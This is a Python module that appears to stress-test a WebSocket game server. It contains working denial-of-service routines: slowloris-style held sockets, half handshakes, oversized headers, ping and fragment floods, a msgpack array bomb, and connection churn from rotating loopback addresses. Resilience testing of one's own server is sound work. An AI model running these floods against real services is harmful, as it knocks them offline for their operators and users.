"""Attacks by sockets and frames, before or beside any request."""

from __future__ import annotations

import asyncio
import contextlib
import itertools

from websockets.client import ClientProtocol
from websockets.typing import Subprotocol
from websockets.uri import parse_uri

from attacks.player import find_home
from mastermind_protocol import requests
from mastermind_protocol.codec import encode
from mastermind_protocol.messages import SUBPROTOCOL

_CLIENT = ClientProtocol(parse_uri("ws://localhost"), subprotocols=[Subprotocol(SUBPROTOCOL)])
HANDSHAKE = _CLIENT.connect().serialize()
PING, PIECE = b"\x89\x80\0\0\0\0", b"\x00\x80\0\0\0\0"
FIRST_PIECE = b"\x02\x80\0\0\0\0"
BOMB = b"\xdc\x3a\x00" * 5000  # arrays that say to have 14,848 items each
AGAIN_SECONDS = 0.1  # after which who was cut off comes again


def mask(frame: bytes) -> bytes:
    """Return a message as a client sends it, by a mask that changes nothing."""
    size = bytes((0x80 | len(frame),)) if len(frame) < 126 else b"\xfe" + len(frame).to_bytes(2)
    return b"\x82" + size + bytes(4) + frame


async def open_socket(address: str, home: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """Connect to the server's port from an address of this machine."""
    host, _, port = address.removeprefix("ws://").rpartition(":")
    return await asyncio.open_connection(host, int(port), local_addr=(home, 0))


async def hold(address: str, first: bytes, sockets: int) -> None:
    """Hold so many sockets open, each of which has sent so much; those that are cut come again."""

    async def keep(number: int) -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await open_socket(address, find_home(number))
                writer.write(first)
                while await reader.read(1 << 16):
                    pass
                writer.close()
            await asyncio.sleep(AGAIN_SECONDS)

    await asyncio.gather(*map(keep, range(sockets)))


async def write_forever(
    address: str, first: bytes, data: bytes, connections: int, *, greet: bool = True
) -> None:
    """Write frames by hand, as fast as the socket takes them."""

    async def write(number: int) -> None:
        while True:
            with contextlib.suppress(OSError, EOFError):
                reader, writer = await open_socket(address, find_home(number))
                writer.write(HANDSHAKE)
                await reader.readuntil(b"\r\n\r\n")
                reading = asyncio.create_task(read_all(reader))
                writer.write((mask(encode(requests.Hello(id=1))) if greet else b"") + first)
                try:
                    while not reading.done():
                        writer.write(data)
                        await writer.drain()
                finally:
                    reading.cancel()
                    writer.close()
            await asyncio.sleep(AGAIN_SECONDS)

    async def read_all(reader: asyncio.StreamReader) -> None:
        with contextlib.suppress(OSError):
            while await reader.read(1 << 16):
                pass

    await asyncio.gather(*map(write, range(connections)))


async def send_headers(address: str) -> None:
    """Send a megabyte of headers on each of 500 sockets."""

    async def send(number: int) -> None:
        while True:
            with contextlib.suppress(OSError):
                _, writer = await open_socket(address, find_home(number))
                writer.write(b"GET / HTTP/1.1\r\n")
                for line in range(127):
                    writer.write(b"X-%d: " % line + b"x" * 8000 + b"\r\n")
                    await writer.drain()
                await asyncio.Event().wait()
            await asyncio.sleep(AGAIN_SECONDS)

    await asyncio.gather(*map(send, range(500)))


async def shake_half(address: str) -> None:
    """Send half a handshake on each of 6,000 sockets."""
    await hold(address, HANDSHAKE[: len(HANDSHAKE) // 2], 6000)


async def idle(address: str) -> None:
    """Finish a handshake on each of 2,000 sockets, and say nothing."""
    await hold(address, HANDSHAKE, 2000)


async def ping(address: str) -> None:
    """Ping without a pause on one connection."""
    await write_forever(address, b"", PING * 1000, 1)


async def ping_much(address: str) -> None:
    """Ping without a pause on twenty connections."""
    await write_forever(address, b"", PING * 1000, 20)


async def fragment(address: str) -> None:
    """Send one message in empty pieces without end, on five connections."""
    await write_forever(address, FIRST_PIECE, PIECE * 1000, 5)


async def bomb(address: str) -> None:
    """Send msgpack whose arrays say to be long, on five connections that have not said hello."""
    await write_forever(address, b"", mask(BOMB), 5, greet=False)


async def come_and_go(address: str) -> None:
    """Connect, shake hands and close, fifty at a time from ever new addresses."""
    numbers = itertools.count()

    async def come() -> None:
        while True:
            number = next(numbers)
            with contextlib.suppress(OSError, EOFError):
                reader, writer = await open_socket(
                    address,
                    f"127.{2 + number // 62500 % 200}.{number // 250 % 250}.{1 + number % 250}",
                )
                writer.write(HANDSHAKE)
                await reader.readuntil(b"\r\n\r\n")
                writer.close()

    await asyncio.gather(*(come() for _ in range(50)))
